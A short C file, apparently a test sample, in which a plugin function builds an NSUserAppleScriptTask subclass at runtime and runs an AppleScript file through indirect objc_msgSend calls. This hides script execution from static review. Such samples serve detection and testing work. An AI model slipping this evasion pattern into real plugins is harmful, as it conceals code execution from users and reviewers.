/* A class that is made while it runs, below one that is looked up by its bare name. */
#include "plugin.h"
extern void *objc_getClass(const char *), *sel_registerName(const char *), *objc_allocateClassPair(void *, const char *, unsigned long);
extern void objc_registerClassPair(void *), objc_msgSend(void);
static void act(char **env) {
    void *(*tell)(void *, void *, ...) = (void *)objc_msgSend;
    void *(*with)(void *, void *, const void *) = (void *)objc_msgSend;
    void *(*with2)(void *, void *, const void *, const void *) = (void *)objc_msgSend;
    void *task = objc_allocateClassPair(objc_getClass("NSUserAppleScriptTask"), "KitTask", 0);
    if (!task) return;
    objc_registerClassPair(task);
    void *path = with(objc_getClass("NSString"), sel_registerName("stringWithUTF8String:"), "/Library/Application Scripts/kit/open.scpt");
    void *address = with(objc_getClass("NSURL"), sel_registerName("fileURLWithPath:"), path);
    task = with2(tell(task, sel_registerName("alloc")), sel_registerName("initWithURL:error:"), address, 0);
    with2(task, sel_registerName("executeWithAppleEvent:completionHandler:"), 0, 0);
}
